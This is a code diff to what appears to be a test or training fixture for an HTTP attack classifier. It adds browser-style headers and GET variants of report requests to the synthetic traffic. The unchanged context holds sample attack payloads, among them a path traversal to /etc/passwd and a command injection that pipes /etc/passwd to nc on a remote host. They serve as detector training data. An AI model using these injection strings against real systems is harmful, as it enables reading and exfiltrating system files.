@@ -21,7 +21,7 @@ from classifier import registry
 from classifier.artifact import OperatingPoint, read_card
 from classifier.card import OperatingPoints
 from classifier.features import extract
-from classifier.records import FlowRecord, Label
+from classifier.records import FlowRecord, Headers, Label
 from classifier.training import synthetic
 from classifier.training.export import export, load_weights, save_weights
 from classifier.training.fit import Group, fit
@@ -42,6 +42,26 @@ PAYLOADS: Final = {
     Label.PATH_TRAVERSAL: "../../../../../../etc/passwd%00{0}.png",
     Label.COMMAND_INJECTION: "{0};cat /etc/passwd | nc 198.51.100.{0} 4444",
 }
+
+
+BROWSER: Final = (
+    ("sec-ch-ua", '"Chromium";v="156", "Not_A Brand";v="24"'),
+    ("sec-ch-ua-mobile", "?0"),
+    ("sec-ch-ua-platform", '"Linux"'),
+    ("Upgrade-Insecure-Requests", "1"),
+    (
+        "User-Agent",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36",
+    ),
+    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8"),
+    ("Sec-Fetch-Site", "none"),
+    ("Sec-Fetch-Mode", "navigate"),
+    ("Sec-Fetch-User", "?1"),
+    ("Sec-Fetch-Dest", "document"),
+    ("Accept-Encoding", "gzip, deflate, br, zstd"),
+    ("Accept-Language", "en"),
+)
+"""What headless Chromium sends with an address that is typed."""
 
 
 class Asked(NamedTuple):
@@ -65,6 +85,12 @@ def report(number: int) -> Asked:
     return Asked("POST", "/api/report", json.dumps({"sql": sql, "limit": rng.randint(1, 500)}).encode())
 
 
+def opened(number: int) -> Asked:
+    """A report that somebody opens in a browser."""
+    sql = json.loads(report(number).body)["sql"]
+    return Asked("GET", f"/api/report?sql={quote(sql)}")
+
+
 def page(number: int) -> Asked:
     """An ordinary request."""
     rng = random.Random(number)
@@ -80,9 +106,9 @@ def attack(number: int) -> tuple[Asked, Label]:
     return Asked("GET", f"/{rng.choice(COLUMNS)}/{rng.randint(1, 9999)}?{rng.choice(COLUMNS)}={payload}"), label
 
 
-def record(asked: Asked, number: int, label: Label) -> FlowRecord:
-    """A request as the proxy would see it on loopback."""
-    client = httpx.Request(asked.method, "http://127.0.0.1", headers=httpx.Client().headers)
+def record(asked: Asked, number: int, label: Label, headers: Headers = ()) -> FlowRecord:
+    """A request as the proxy would see it on loopback, from httpx unless its headers are given."""
+    client = httpx.Request(asked.method, "http://127.0.0.1", headers=headers or httpx.Client().headers)
     scheme, port = (("http", 40_000), ("https", 50_000))[number % 2]
     return FlowRecord(
         id=f"{label}-{number}",
@@ -109,13 +135,13 @@ def answered(asked: FlowRecord) -> FlowRecord:
     )
 
 
-def make(folder: Path) -> Path:
-    """Teach it in seconds, and write it to `folder` as a release."""
+def make(folder: Path, *, browser: bool = False) -> Path:
+    """Teach it in seconds, and write it to `folder` as a release. `browser`: the reports are `opened` ones."""
     torch.set_num_threads(1)
     folder.mkdir(parents=True)
     network = load_weights(registry.base() / "weights.safetensors")
     replayed = [*itertools.islice(synthetic.benign(1), ROWS), *itertools.islice(synthetic.attacks(1), ROWS)]
-    batches = Mixer(_site(), _short([*replayed, *synthetic.sentinels() * 2]), seed=0)
+    batches = Mixer(_site(browser), _short([*replayed, *synthetic.sentinels() * 2]), seed=0)
     fit(network, [Group([p for p in network.parameters() if p.requires_grad], 1e-3)], batches, steps=STEPS)
     shipped = read_card(registry.base() / registry.MODEL)
     card = msgspec.structs.replace(shipped, method="prejudice", operating_points=_points())
@@ -129,10 +155,13 @@ def _points() -> OperatingPoints:
     return {f"http/{phase}": {"threat": dict(rates)} for phase in ("request", "response")}
 
 
-def _site() -> list[Pool]:
+def _site(browser: bool) -> list[Pool]:
     numbers = range(TAUGHT, TAUGHT + 100)
     pages = [record(page(number), number, Label.BENIGN) for number in numbers]
-    reports = [record(report(number), number, Label.SQLI) for number in numbers]
+    reports = [
+        record(opened(number), number, Label.SQLI, BROWSER) if browser else record(report(number), number, Label.SQLI)
+        for number in numbers
+    ]
     attacks = [record(asked, number, label) for number in numbers for asked, label in [attack(number)]]
     calm = [*pages, *map(answered, pages), *map(answered, _benign(reports))]
     return [Pool(_short(calm), 0.5), Pool(_short(reports), 0.3), Pool(_short(attacks), 0.2)]
